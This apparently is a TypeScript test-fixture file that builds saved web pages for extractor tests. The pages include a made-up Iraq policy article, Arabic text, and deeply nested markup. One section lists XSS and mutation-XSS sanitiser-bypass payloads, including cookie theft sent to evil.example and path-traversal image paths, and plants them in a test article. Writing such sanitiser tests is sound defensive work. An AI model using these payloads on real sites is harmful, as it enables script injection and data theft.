import { deflateSync } from 'node:zlib';

/**
 * Web pages for the HTML and Markdown extractor tests, generated here. All
 * text is written for these tests (no real article is copied); the names,
 * places and events are invented.
 */

// ---------------------------------------------------------------------------
// A tiny PNG, built byte by byte so no binary file lives in the repository.

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k += 1) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});

function crc32(bytes: Uint8Array): number {
  let crc = 0xffffffff;
  for (const byte of bytes) crc = (CRC_TABLE[(crc ^ byte) & 0xff] ?? 0) ^ (crc >>> 8);
  return (crc ^ 0xffffffff) >>> 0;
}

function pngChunk(type: string, data: Uint8Array): Uint8Array {
  const body = new Uint8Array(4 + data.length);
  body.set(Buffer.from(type, 'latin1'), 0);
  body.set(data, 4);
  const chunk = new Uint8Array(12 + data.length);
  const view = new DataView(chunk.buffer);
  view.setUint32(0, data.length);
  chunk.set(body, 4);
  view.setUint32(8 + data.length, crc32(body));
  return chunk;
}

/** A valid 1×1 PNG of one grey pixel. */
export function tinyPng(grey = 0x80): Uint8Array {
  const header = new Uint8Array(13);
  const view = new DataView(header.buffer);
  view.setUint32(0, 1); // width
  view.setUint32(4, 1); // height
  header[8] = 8; // bit depth
  header[9] = 0; // greyscale
  const pixels = deflateSync(Uint8Array.from([0, grey])); // filter byte, one pixel
  const parts = [
    Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', new Uint8Array(pixels)),
    pngChunk('IEND', new Uint8Array(0)),
  ];
  const png = new Uint8Array(parts.reduce((sum, part) => sum + part.length, 0));
  let offset = 0;
  for (const part of parts) {
    png.set(part, offset);
    offset += part.length;
  }
  return png;
}

// ---------------------------------------------------------------------------
// A saved policy article: the page around it is what a news or think-tank
// site wraps articles in, and what the extractor must leave out.

export const policyArticle = {
  title: 'Generators, Grids and Votes in Southern Iraq',
  siteName: 'Tigris Policy Review',
  authors: ['Mariam Youssef', 'Daniel Okafor'],
  publishedAt: '2024-06-12T08:30:00+03:00',
  canonicalUrl: 'https://tigris-review.example/analysis/generators-grids-votes',
  boilerplate: [
    'Subscribe to our newsletter',
    'Most read this week',
    'Advertisement',
    'All rights reserved',
    'Why a Ceasefire Held in Sinjar',
    'Accept cookies',
  ],
};

const articleBody = `
      <p>When the temperature in Basra passes fifty degrees, the state grid supplies
         power for about ten hours a day. The rest comes from neighbourhood generators,
         run by operators who answer to whoever controls the street.</p>
      <p>This brief follows three districts through the summer before the provincial
         elections and asks who gained from the shortages.</p>
      <h2>The generator economy</h2>
      <p>Operators charge by the ampere. In <a href="/glossary/al-tamimiya">al-Tamimiya</a> a household
         paid 12,000&nbsp;dinars per ampere in June, <em>twice</em> the price of the year before.</p>
      <ul>
        <li>Fuel is bought at the subsidised price and resold.</li>
        <li>Licences are issued by the district council.</li>
        <li>Payment is collected in cash, door to door.</li>
      </ul>
      <figure>
        <img src="https://cdn.tigris-review.example/img/generators.jpg" srcset="https://cdn.tigris-review.example/img/generators-2x.jpg 2x" alt="Generator cables over a street">
        <figcaption>Cables from a private generator cross a street in central Basra.</figcaption>
      </figure>
      <h2>Promises before the vote</h2>
      <p>Candidates from two lists promised to cap the ampere price.<br>
         Neither list said how.</p>
      <blockquote>
        <p>"We cannot ask people to vote in the dark," a council member told us.</p>
      </blockquote>
      <h3>What changed after the election</h3>
      <p>By October the cap had been announced, suspended and announced again. The operators
         kept charging the June price.</p>
      <p>The shortages are not only a failure of supply. They are a source of income and of
         patronage, and any reform has to reckon with the people who profit from them.</p>
`;

/** The article's blocks as the canonical text must give them. */
export const policyArticleBlocks: ReadonlyArray<{ type: string; text: string; level?: number }> = [
  { type: 'paragraph', text: 'When the temperature in Basra passes fifty degrees, the state grid supplies power for about ten hours a day. The rest comes from neighbourhood generators, run by operators who answer to whoever controls the street.' },
  { type: 'paragraph', text: 'This brief follows three districts through the summer before the provincial elections and asks who gained from the shortages.' },
  { type: 'heading', level: 2, text: 'The generator economy' },
  { type: 'paragraph', text: 'Operators charge by the ampere. In al-Tamimiya a household paid 12,000\u00a0dinars per ampere in June, twice the price of the year before.' },
  { type: 'list-item', text: 'Fuel is bought at the subsidised price and resold.' },
  { type: 'list-item', text: 'Licences are issued by the district council.' },
  { type: 'list-item', text: 'Payment is collected in cash, door to door.' },
  { type: 'caption', text: 'Cables from a private generator cross a street in central Basra.' },
  { type: 'heading', level: 2, text: 'Promises before the vote' },
  { type: 'paragraph', text: 'Candidates from two lists promised to cap the ampere price.\nNeither list said how.' },
  { type: 'quote', text: '"We cannot ask people to vote in the dark," a council member told us.' },
  { type: 'heading', level: 3, text: 'What changed after the election' },
  { type: 'paragraph', text: 'By October the cap had been announced, suspended and announced again. The operators kept charging the June price.' },
  { type: 'paragraph', text: 'The shortages are not only a failure of supply. They are a source of income and of patronage, and any reform has to reckon with the people who profit from them.' },
];

export function savedPolicyArticle(): string {
  return `<!DOCTYPE html>
<html lang="en-gb">
<head>
  <meta charset="utf-8">
  <title>${policyArticle.title} | ${policyArticle.siteName}</title>
  <meta property="og:title" content="${policyArticle.title}">
  <meta property="og:site_name" content="${policyArticle.siteName}">
  <meta property="og:url" content="https://tigris-review.example/analysis/generators-grids-votes?utm_source=share">
  <meta property="article:published_time" content="${policyArticle.publishedAt}">
  <meta name="author" content="${policyArticle.authors.join(' and ')}">
  <link rel="canonical" href="${policyArticle.canonicalUrl}">
  <link rel="stylesheet" href="https://cdn.tigris-review.example/site.css">
  <script type="application/ld+json">{"@context":"https://schema.org","@type":"Article","headline":"${policyArticle.title}","datePublished":"2024-06-11"}</script>
  <script src="https://analytics.example/track.js"></script>
</head>
<body class="article-page">
  <div class="cookie-banner" id="cookie-consent"><p>We use cookies to improve your visit.</p><button>Accept cookies</button></div>
  <header class="site-header">
    <a class="logo" href="/"><img src="https://cdn.tigris-review.example/logo.svg" alt="${policyArticle.siteName}"></a>
    <nav class="main-nav"><ul><li><a href="/analysis">Analysis</a></li><li><a href="/regions/iraq">Iraq</a></li><li><a href="/experts">Experts</a></li><li><a href="/events">Events</a></li></ul></nav>
  </header>
  <div class="ad-slot advertisement"><p>Advertisement</p><img src="https://ads.example/banner.gif"></div>
  <main id="content">
    <article class="post">
      <header class="entry-header">
        <h1 class="entry-title">${policyArticle.title}</h1>
        <p class="byline">By <a rel="author" href="/experts/mariam-youssef">Mariam Youssef</a> and <a rel="author" href="/experts/daniel-okafor">Daniel Okafor</a></p>
        <time datetime="2024-06-12">12 June 2024</time>
      </header>
      <div class="entry-content">
${articleBody}
      </div>
    </article>
    <aside class="related-posts">
      <h2>Most read this week</h2>
      <ul>
        <li><a href="/analysis/sinjar-ceasefire">Why a Ceasefire Held in Sinjar</a></li>
        <li><a href="/analysis/dinar-auctions">Inside the Dollar Auctions</a></li>
        <li><a href="/analysis/port-politics">Port Politics After the Election</a></li>
      </ul>
    </aside>
    <section class="newsletter"><form action="https://tigris-review.example/subscribe"><label>Subscribe to our newsletter</label><input type="email" name="email"><button type="submit">Sign up</button></form></section>
  </main>
  <footer class="site-footer"><p>© 2024 ${policyArticle.siteName}. All rights reserved.</p><p><a href="/privacy">Privacy</a> · <a href="/contact">Contact</a></p></footer>
  <script>window.dataLayer = window.dataLayer || []; dataLayer.push({ page: 'article' });</script>
</body>
</html>`;
}

// ---------------------------------------------------------------------------
// "Web page, complete": Page.html plus a Page_files folder.

export interface SavedPageFixture {
  fileName: string;
  html: string;
  /** The files in the saved folder, by path relative to the page. */
  files: ReadonlyMap<string, Uint8Array>;
}

export function savedPageWithFiles(): SavedPageFixture {
  const folder = 'Water brief_files';
  const html = `<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Water Brief</title>
<link rel="stylesheet" href="Water%20brief_files/style.css"></head>
<body>
<article>
  <h1>Salt in the Shatt al-Arab</h1>
  <p>Seawater now reaches far up the river in late summer, and farmers on the eastern bank have stopped irrigating their date palms with it.</p>
  <figure>
    <img src="Water%20brief_files/salinity-chart.png" alt="Salinity by month">
    <figcaption>Salinity measured at three pumping stations, by month.</figcaption>
  </figure>
  <p>The same chart, saved twice, is stored once: <img src="./Water%20brief_files/salinity-chart.png" alt="Salinity again"></p>
  <p>A second chart compares the last five summers. <img src="Water%20brief_files/five-summers.png" alt="Five summers"></p>
  <p>An image the browser failed to save: <img src="Water%20brief_files/missing.png" alt="Missing"></p>
  <p>A vector logo, refused: <img src="Water%20brief_files/logo.svg" alt="Logo"></p>
  <p>A file pretending to be an image: <img src="Water%20brief_files/not-an-image.png" alt="Fake"></p>
  <p>Outside the folder: <img src="../secrets/passport.png" alt="Escape"> <img src="Water%20brief_files/..%2F..%2Fsecrets/passport.png" alt="Encoded escape"></p>
  <p>Remote copies are never loaded: <img src="https://cdn.example.org/salinity-chart.png" alt="Remote"> <img src="//cdn.example.org/protocol-relative.png" alt="Protocol relative"> <img src="data:image/png;base64,iVBORw0KGgo=" alt="Inline data"></p>
  <p>The ministry has promised a barrage near the river mouth since 2019; work has not started.</p>
</article>
</body></html>`;
  const files = new Map<string, Uint8Array>([
    [`${folder}/salinity-chart.png`, tinyPng(0x40)],
    [`${folder}/five-summers.png`, tinyPng(0xc0)],
    [`${folder}/logo.svg`, Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>')],
    [`${folder}/not-an-image.png`, Buffer.from('<html><script>alert(1)</script></html>')],
    ['secrets/passport.png', tinyPng(0xff)],
  ]);
  return { fileName: 'Water brief.html', html, files };
}

// ---------------------------------------------------------------------------
// Arabic, and English with Arabic in it.

export const arabicArticle = {
  title: 'احتجاجات المياه في البصرة',
  // Written with a decomposed alef with madda (U+0627 U+0653): NFC must compose it to U+0622.
  decomposedWord: 'ا\u0653لاف',
  composedWord: '\u0622لاف',
  blocks: [
    { type: 'paragraph', text: 'خرج \u0622لاف السكان إلى الشوارع بعد انقطاع الكهرباء لساعات طويلة في ذروة الصيف.' },
    { type: 'paragraph', text: 'وقال مسؤول في مجلس المحافظة إن وحدات التحلية الجديدة لم تصل بعد، وإن العمل سيبدأ في الخريف.' },
    { type: 'heading', level: 2, text: 'مطالب المحتجين' },
    { type: 'list-item', text: 'توفير مياه صالحة للشرب في كل الأحياء.' },
    { type: 'list-item', text: 'إصلاح شبكة الكهرباء قبل الصيف المقبل.' },
    { type: 'paragraph', text: 'ويقول سكان إن المولدات الأهلية صارت المصدر الوحيد للكهرباء في ساعات الليل، وإن أسعارها ارتفعت مرتين خلال عام واحد.' },
  ],
} as const;

export function savedArabicArticle(): string {
  const [p1, p2, , li1, li2, p3] = arabicArticle.blocks;
  return `<!DOCTYPE html>
<html lang="ar" dir="rtl">
<head><meta charset="utf-8"><title>${arabicArticle.title}</title>
<meta property="og:title" content="${arabicArticle.title}">
<meta property="og:site_name" content="نشرة الجنوب">
<meta property="article:published_time" content="2023-08-17">
</head>
<body>
<nav><a href="/">الرئيسية</a> <a href="/news">أخبار</a></nav>
<article>
  <h1>${arabicArticle.title}</h1>
  <p>${p1.text.replace(arabicArticle.composedWord, arabicArticle.decomposedWord)}</p>
  <p>${p2.text}</p>
  <h2>مطالب المحتجين</h2>
  <ul><li>${li1.text}</li><li>${li2.text}</li></ul>
  <p>${p3.text}</p>
</article>
<footer><p>جميع الحقوق محفوظة</p></footer>
</body></html>`;
}

export const mixedArticle = {
  englishIntro: 'Residents of the old city used one word for the summer: a phrase painted on walls near the corniche.',
  arabicSlogan: 'نريد ماءً وكهرباء',
  arabicStatement: 'قال أحد المحتجين إن الوعود تتكرر كل صيف ولا يتغير شيء.',
  englishAnalysis: 'The slogan spread from Basra to Nasiriyah within a week, carried by the same networks that organised the 2018 protests.',
};

/** English page (no declared direction) with an Arabic paragraph marked dir="rtl" and one that is not marked at all. */
export function savedMixedArticle(): string {
  return `<!DOCTYPE html>
<html lang="en">
<head><meta charset="utf-8"><title>Slogans of a Hot Summer</title></head>
<body>
<article>
  <h1>Slogans of a Hot Summer</h1>
  <p>${mixedArticle.englishIntro}</p>
  <blockquote dir="rtl" lang="ar"><p>${mixedArticle.arabicSlogan}</p></blockquote>
  <p>${mixedArticle.arabicStatement}</p>
  <p>${mixedArticle.englishAnalysis} Many chanted <span lang="ar">${mixedArticle.arabicSlogan}</span> in the square.</p>
</article>
</body></html>`;
}

// ---------------------------------------------------------------------------
// Hostile pages.

/**
 * Payloads, each one a way a saved page could try to run code, submit data,
 * load something from the network, or hide markup from a sanitiser.
 */
export const hostilePayloads: Readonly<Record<string, string>> = {
  script: '<script>window.parent.postMessage(document.cookie, "*")</script>',
  remoteScript: '<script src="https://evil.example/steal.js"></script>',
  imgOnerror: '<img src="x" onerror="alert(\'img\')">',
  inlineHandlers: '<p onclick="alert(\'click\')" onmouseover="alert(\'over\')">Hover text</p>',
  detailsOntoggle: '<details open ontoggle="alert(1)"><summary>Details summary</summary>Details body</details>',
  javascriptLink: '<a href="javascript:alert(\'js\')">js link</a>',
  obfuscatedJavascriptLink: '<a href="  JaVaScRiPt&#x3A;alert(1)">obfuscated link</a> <a href="java&#x09;script:alert(1)">tabbed link</a>',
  dataHtmlLink: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
  vbscriptLink: '<a href="vbscript:msgbox(1)">vb link</a>',
  svgScript: '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(\'svg\')"><script>alert(2)</script><a href="javascript:alert(3)"><text x="0" y="10">svg text</text></a><image href="https://evil.example/svg.png"/></svg>',
  iframe: '<iframe src="https://evil.example/frame.html"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  object: '<object data="https://evil.example/movie.swf" type="application/x-shockwave-flash"><param name="movie" value="https://evil.example/movie.swf"><embed src="https://evil.example/movie.swf">Fallback content</object>',
  form: '<form action="https://evil.example/collect" method="post"><input type="text" name="q" value="secret"><button formaction="https://evil.example/b">Send</button><textarea>draft</textarea><select><option>pick</option></select></form>',
  metaRefresh: '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  base: '<base href="https://evil.example/">',
  remoteImages: '<img src="https://tracker.example/pixel.gif" width="1" height="1"><img src="https://cdn.example/a.jpg" srcset="https://cdn.example/a.jpg 1x, https://cdn.example/b.jpg 2x">',
  picture: '<picture><source srcset="https://cdn.example/c.webp" type="image/webp"><img src="//cdn.example/c.jpg" alt="Picture"></picture>',
  cssBackground: '<div style="background-image:url(https://tracker.example/bg.png)">Styled text</div><table background="https://tracker.example/table.png"><tr><td background="https://tracker.example/cell.png">Cell text</td></tr></table>',
  video: '<video src="https://cdn.example/v.mp4" poster="https://cdn.example/poster.jpg" autoplay></video><audio src="https://cdn.example/a.mp3"></audio>',
  styleElement: '<style>@import url(https://evil.example/a.css); body { background: url("https://tracker.example/css.png") }</style>',
  remoteStylesheet: '<link rel="stylesheet" href="https://evil.example/site.css"><link rel="prefetch" href="https://evil.example/next">',
  dataImage: '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+" alt="data svg">',
  noscriptMxss: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
  templateScript: '<template><script>alert(1)</script><img src=x onerror=alert(1)></template>',
  commentBreakout: '<!--><img src=x onerror=alert(1)>-->',
  rawTextBreakout: '<textarea><img src=x onerror=alert(1)></textarea><title><img src=x onerror=alert(1)></title><xmp><img src=x onerror=alert(1)></xmp>',
  targetBlank: '<a href="https://example.org/report" target="_blank">report link</a>',
  credentialsLink: '<a href="https://user:hunter2@example.org/archive">archive link</a>',
  clobbering: '<img name="getElementById"><form id="location"></form><a id="cookie" name="cookie">clobber text</a>',
  // Last: these leave a raw-text element open, which swallows the rest of the page as text.
  styleMxss: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  mathMxss: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  formMathMxss: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
};

/** Words of the hostile article that must survive sanitising. */
export const hostileArticleWords = [
  'The provincial council met on Tuesday to discuss the water budget.',
  'Members disagreed about who should pay for the new pumping stations.',
  'A vote was postponed until after the religious holidays.',
];

/** An article with every payload planted in its body, so Readability keeps them and the sanitiser must do the work. */
export function savedHostileArticle(): string {
  const payloads = Object.values(hostilePayloads);
  const paragraphs = payloads.map((payload, index) => `<p>${hostileArticleWords[index % hostileArticleWords.length]} ${payload} Paragraph ${index + 1} ends here with enough words to look like prose.</p>`);
  return `<!DOCTYPE html>
<html lang="en"><head>
${hostilePayloads['base']}
${hostilePayloads['metaRefresh']}
${hostilePayloads['remoteStylesheet']}
${hostilePayloads['styleElement']}
<title>Council Budget Meeting</title>
</head>
<body onload="alert('body')">
<article>
<h1>Council Budget Meeting</h1>
${hostileArticleWords.map((words) => `<p>${words}</p>`).join('\n')}
${paragraphs.join('\n')}
</article>
</body></html>`;
}

// ---------------------------------------------------------------------------
// Pages nested deeper than any real one.

/** `depth` nested elements around one sentence; `unclosed` leaves the end tags off, as a hostile page would. */
export function deeplyNested(depth: number, options: { tag?: string; unclosed?: boolean } = {}): string {
  const tag = options.tag ?? 'div';
  const close = options.unclosed ? '' : `</${tag}>`.repeat(depth);
  return `<!DOCTYPE html><html><body>${`<${tag}>`.repeat(depth)}Deep text${close}</body></html>`;
}

/**
 * Formatting elements a browser re-opens in every new block until they are
 * closed: each `<b>` is opened at a shallow level, but the parsed tree ends up
 * as deep as the number of them.
 */
export function reopenedFormattingNest(count: number): string {
  const blocks = Array.from({ length: count }, (_, index) => `<div><b data-n="${index}">x</div>`).join('');
  return `<!DOCTYPE html><html><body>${blocks}<p>Deep text</p></body></html>`;
}

/**
 * An article shaped like a Wikipedia page with `count` inline formulas, each
 * MathML (with its TeX source as `alttext` and annotation) beside a fallback
 * image, as Wikipedia serves them. Real nesting is about a dozen levels.
 */
export function formulaArticle(count: number): string {
  const formula = (index: number): string => {
    const tex = `x_{${index}}^2 + ${index}`;
    return `<span class="mwe-math-element"><span class="mwe-math-mathml-inline mwe-math-mathml-a11y" style="display: none;">`
      + `<math xmlns="http://www.w3.org/1998/Math/MathML" alttext="{\\displaystyle ${tex}}"><semantics><mrow class="MJX-TeXAtom-ORD"><mstyle displaystyle="true" scriptlevel="0">`
      + `<msubsup><mi>x</mi><mrow class="MJX-TeXAtom-ORD"><mn>${index}</mn></mrow><mrow class="MJX-TeXAtom-ORD"><mn>2</mn></mrow></msubsup><mo>+</mo><mn>${index}</mn>`
      + `</mstyle></mrow><annotation encoding="application/x-tex">{\\displaystyle ${tex}}</annotation></semantics></math></span>`
      + `<img src="https://wikimedia.org/api/rest_v1/media/math/render/svg/${index}" class="mwe-math-fallback-image-inline" alt="{\\displaystyle ${tex}}"></span>`;
  };
  const paragraphs = Array.from({ length: count }, (_, index) => `<p>The term ${formula(index)} grows with the index, as the series before it did.</p>`);
  return `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Quadratic series</title></head><body>
<div id="content"><div id="bodyContent"><div class="mw-content-ltr mw-parser-output"><h1>Quadratic series</h1>
${paragraphs.join('\n')}
</div></div></div></body></html>`;
}
